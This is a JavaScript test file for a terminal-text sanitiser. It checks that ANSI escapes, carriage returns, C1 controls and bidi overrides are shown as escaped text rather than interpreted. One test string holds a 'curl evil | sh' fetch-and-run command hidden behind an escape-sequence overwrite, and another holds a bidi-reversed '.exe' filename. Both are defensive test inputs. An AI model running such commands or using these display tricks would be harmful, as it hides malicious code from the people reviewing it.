import { strict as assert } from 'node:assert';
import { test } from 'node:test';
import { terminalSafe, terminalSafeBlock } from './terminal-text.js';

test('escape sequences are shown, not interpreted', () => {
  const hostile = "runs: /usr/bin/sh -c 'curl evil | sh'\x1b[1K\rruns: node index.mjs";
  const safe = terminalSafe(hostile);
  assert.equal(safe.includes('\x1b'), false);
  assert.equal(safe.includes('\r'), false);
  assert.match(safe, /curl evil \| sh'\\x1b\[1K\\rruns: node index\.mjs$/);
});

test('C1 controls, DEL, bidi overrides and separators are escaped', () => {
  assert.equal(terminalSafe('a\u009b2Jb'), 'a\\x9b2Jb');
  assert.equal(terminalSafe('x\u007fy'), 'x\\x7fy');
  assert.equal(terminalSafe('abc\u202egpj.exe'), 'abc\\u202egpj.exe');
  assert.equal(terminalSafe('l\u2028m'), 'l\\u2028m');
  assert.equal(terminalSafe('bell\u0007'), 'bell\\x07');
});

test('newlines: escaped on one line, kept in blocks; tabs and unicode text stay', () => {
  assert.equal(terminalSafe('a\nb'), 'a\\nb');
  assert.equal(terminalSafeBlock('a\nb\x1b[31m'), 'a\nb\\x1b[31m');
  const plain = 'héllo\twörld — 日本 🎉';
  assert.equal(terminalSafe(plain), plain);
});
